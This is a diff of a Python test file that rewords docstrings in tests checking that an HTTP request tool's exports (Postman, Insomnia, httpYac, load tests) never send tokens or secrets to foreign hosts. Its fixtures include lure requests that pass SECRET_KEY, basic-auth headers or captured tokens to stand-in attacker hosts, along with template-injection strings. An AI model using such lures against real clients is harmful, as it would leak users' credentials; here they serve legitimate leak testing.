@@ -1,4 +1,4 @@
-"""What an exported request can send elsewhere, and what an export does to the terminal."""
+"""What an exported request can send elsewhere, and what an export can do to the terminal."""
 
 import hashlib
 import json
@@ -27,9 +27,9 @@ SECRETS = (
     "PASSWORD",
 )
 ELSEWHERE = [lure for lure in LURES if not lure.url.startswith("{{vars.host}}/")]
-"""Those whose address is not the deployment's; the rest send their token home."""
+"""Lures with another address than the deployment's; the others send their token home."""
 REWRITTEN = {"evil-as-user", "backslash"}
-"""Those that are exported without what stands before ``@``, and so to the deployment."""
+"""Lures that are exported without the text before ``@``, and so for the deployment."""
 MORE = [
     Lure("key-in-the-query", "<EVIL>/?k={{SECRET_KEY}}"),
     Lure("basic-in-a-header", "<EVIL>/", 'headers = ["X-B: {{basic_auth}}"]\n'),
@@ -81,7 +81,7 @@ def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lur
             ran = machine.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
             said = f"{lure.name}: {format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
             is_elsewhere = machine.evil.place in ran.text or "evil" in ran.text
-            if format_ in LOAD_FORMATS:  # their own parts name the secrets of the deployment
+            if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
                 assert not is_elsewhere, said
             elif is_elsewhere or lure.name not in REWRITTEN:
                 assert [name for name in SECRETS if name in ran.text] == [], said
@@ -89,7 +89,7 @@ def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lur
 
 
 SPELT = "http://acceß.test"
-"""Where the names of IDNA 2003 led to ``http://access.test``."""
+"""A host name that IDNA 2003 converts to ``http://access.test``."""
 CHAIN = "".join(f'a{n} = "{{{{a{n + 1}}}}}"\n' for n in range(40))
 WAYS = {
     "itself": {"zz": 'url = "<URL>/x"\n'},
@@ -109,7 +109,7 @@ WAYS = {
         for first in (35, 29, 28, 18, 5, 0)
     },
 }
-"""The places of a workspace that may spell a host."""
+"""The places of a workspace that can contain a host."""
 
 
 @pytest.fixture
@@ -124,7 +124,7 @@ def named(machine: Machine) -> Machine:
 
 
 def spell(machine: Machine, files: dict[str, str], url: str) -> None:
-    """Write a request that sends a key to ``url``, which some file spells."""
+    """Write a request that sends a key to ``url``, which one of the files contains."""
     for name, lines in files.items():
         text = lines.replace("<URL>", url).replace("<NAME>", url.partition("://")[2])
         if name == "hq":
@@ -139,7 +139,7 @@ def spell(machine: Machine, files: dict[str, str], url: str) -> None:
 def test_what_an_export_sends_home_has_the_address_of_the_deployment(
     named: Machine, files: dict[str, str], url: str
 ) -> None:
-    """However a file spells it: another program may read the same name as another host."""
+    """However a file spells the address: another program may resolve the same name differently."""
     spell(named, files, url)
     for format_ in REQUEST_FORMATS:
         for place in ((), *([("--env", "hq")] if format_ in CODE else [])):
@@ -225,7 +225,7 @@ def test_what_an_environment_would_hide_goes_elsewhere_as_a_value(machine: Machi
 def test_no_value_of_another_request_is_carried_elsewhere(
     machine: Machine, files: dict[str, str]
 ) -> None:
-    """Postman keeps what a script has set, and reads the variables in a value again."""
+    """Postman keeps values that a script has set, and resolves variables inside a value."""
     for name, text in files.items():
         if name.startswith("environments/"):
             append(machine, name, text)
@@ -251,7 +251,7 @@ def test_a_value_of_its_own_goes_where_a_request_says(machine: Machine) -> None:
 
 @pytest.mark.parametrize("name", ["vars.host", "WeDa.EnvType", "SECRET_KEY", "access_token"])
 def test_a_collection_captures_no_address_and_no_key(machine: Machine, name: str) -> None:
-    """Else an answer of an attacker would be the address of every request that follows."""
+    """Otherwise an attacker's response could become the address of every request that follows."""
     machine.write(
         "collections/lure/zz.toml",
         f'method = "POST"\nurl = "http://evil.example/"\n[capture]\n"{name}" = "$.x"\n',
@@ -428,7 +428,7 @@ EVALUATED = [
     ),
     *("{{a}}{f()}}", "\\{\\{f()}}", "{\u2028{f()}}", "{\ufeff{f()}}", "{{b}}", "{{c}}{f()}}"),
 ]
-"""What httpYac, which reads again what it has put in, would evaluate."""
+"""Texts that httpYac would evaluate, because it parses its own substitutions again."""
 RAN = '[variables]\nb = "{{ [{}, f()]\\n}}"\nc = "{"\n'
 
 
@@ -449,7 +449,7 @@ KNOWN_TO_CLIENTS = [
     *("response", "request", "request.headers.Authorization", "httpRegion", "process", "global"),
     *("module", "context", "_empty", "_brace", "AWS_SECRET_ACCESS_KEY", "SECRET_ID", "Vars.Host"),
 ]
-"""Answers, requests, and variables of the machine: httpYac reads them by these names."""
+"""Names that httpYac resolves to responses, requests and environment variables."""
 
 
 def test_no_name_of_a_message_is_one_that_a_client_knows(machine: Machine) -> None:
@@ -587,7 +587,7 @@ def test_a_request_elsewhere_does_not_move_the_others(machine: Machine) -> None:
 
 
 def bundled(machine: Machine, name: str) -> str:
-    """Return a file of the support bundle of the first send."""
+    """Return the text of a file in the support bundle of the first send."""
     path = machine.folder / f"{name}.zip"
     assert machine.run("history", "bundle", "1", "-o", str(path)).status == 0
     with zipfile.ZipFile(path) as archive:
@@ -634,7 +634,7 @@ def test_a_message_follows_no_answer_and_keeps_no_cookie(machine: Machine) -> No
 def test_no_title_of_a_message_is_a_name_that_an_answer_is_kept_under(
     machine: Machine, name: str
 ) -> None:
-    """httpYac keeps it in a variable of the request's name; without one, of its title."""
+    """httpYac stores a response in a variable with the request's name or, without one, title."""
     machine.write(
         "collections/basic/aa.toml", f'name = "{name}"\nmethod = "GET"\nurl = "<EVIL>/status"\n'
     )
@@ -644,7 +644,7 @@ def test_no_title_of_a_message_is_a_name_that_an_answer_is_kept_under(
 
 
 def test_a_foreign_request_of_a_collection_inherits_no_token(machine: Machine) -> None:
-    """Insomnia reads ``noauth`` of a request as nothing said, and then the folder's."""
+    """Insomnia ignores ``noauth`` of a request, and then uses the authentication of the folder."""
     machine.write("collections/basic/probe.toml", 'method = "GET"\nurl = "<EVIL>/status"\n')
     content = json.loads(machine.run("export", "basic", "--format", "postman", "--env", "hq").data)
     assert content["auth"] == {"type": "noauth"}
@@ -684,7 +684,7 @@ def test_no_message_names_a_client_certificate(machine: Machine) -> None:
 def test_no_program_has_the_digest_of_a_file_that_is_no_certificate(
     machine: Machine, name: str
 ) -> None:
-    """A short one that somebody can guess would be confirmed by it."""
+    """The digest of a short file that is easy to guess would confirm a guess of its content."""
     kept = next(machine.state.rglob("secrets.json"))
     digest = hashlib.sha256(kept.read_bytes()).hexdigest()
     machine.edit("tls", "certs/ca.pem", str(kept))
@@ -705,7 +705,7 @@ def test_no_program_has_the_text_of_a_file_that_is_no_certificate(
 
 
 def test_a_program_has_the_authorities_of_an_approved_route_alone(machine: Machine) -> None:
-    """A commit says which file that is, of all files of this machine."""
+    """A commit can name any file of this machine as the CA file."""
     words = ("export", "basic", "--format", "locust", "--env", "tls", "--lang", "en")
     own, evil = (each.read_text("ascii") for each in (machine.trust.home_ca, machine.trust.evil_ca))
     assert repr(own) in machine.run(*words).text
